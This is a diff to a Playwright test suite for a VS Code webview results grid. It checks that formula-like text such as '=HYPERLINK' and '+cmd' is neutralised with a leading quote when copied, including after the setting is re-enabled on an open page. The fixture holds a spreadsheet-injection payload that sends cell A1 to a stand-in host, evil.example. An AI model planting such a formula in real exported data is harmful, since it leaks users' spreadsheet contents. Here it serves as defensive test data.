@@ -5,9 +5,13 @@
 // turned off) copies the raw text.
 import assert from "node:assert/strict";
 import type { Page } from "playwright-core";
+import type { SettingsMessage } from "../../src/protocol";
 import { typedResponse } from "./fixtures";
 import { clickCell, copyCount, lastCopy, loadResults, nextCopy, openPage } from "./page";
 import { startWebviewSuite, type WebviewSuite } from "./suite";
+
+/* eslint-disable @typescript-eslint/no-explicit-any */
+declare const window: any;
 
 const HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Open")';
 /** Rows past the page's own copy limit (2,000): the worker builds that copy. */
@@ -114,5 +118,16 @@ describe("copying formula-like text from the grid (webview)", function () {
         const lines = await copyColumn();
         assert.equal(lines[1], "+cmd");
         assert.equal(lines[ROWS - 1], `=${ROWS - 1}`);
+    });
+
+    it("applies the setting turned back on to the page already open", async () => {
+        await open(false);
+        const settings: SettingsMessage = { type: "settings", neutraliseFormulas: true };
+        await page.evaluate((m) => window.postMessage(m, "*"), settings);
+        await selectTop();
+        await page.locator('vscode-button[data-action="copyCsv"]').click();
+        assert.match(await lastCopy(page), /^'=url,n,s,t\r\n"'=HYPERLINK/);
+        const lines = await copyColumn();
+        assert.equal(lines[1], "'+cmd");
     });
 });
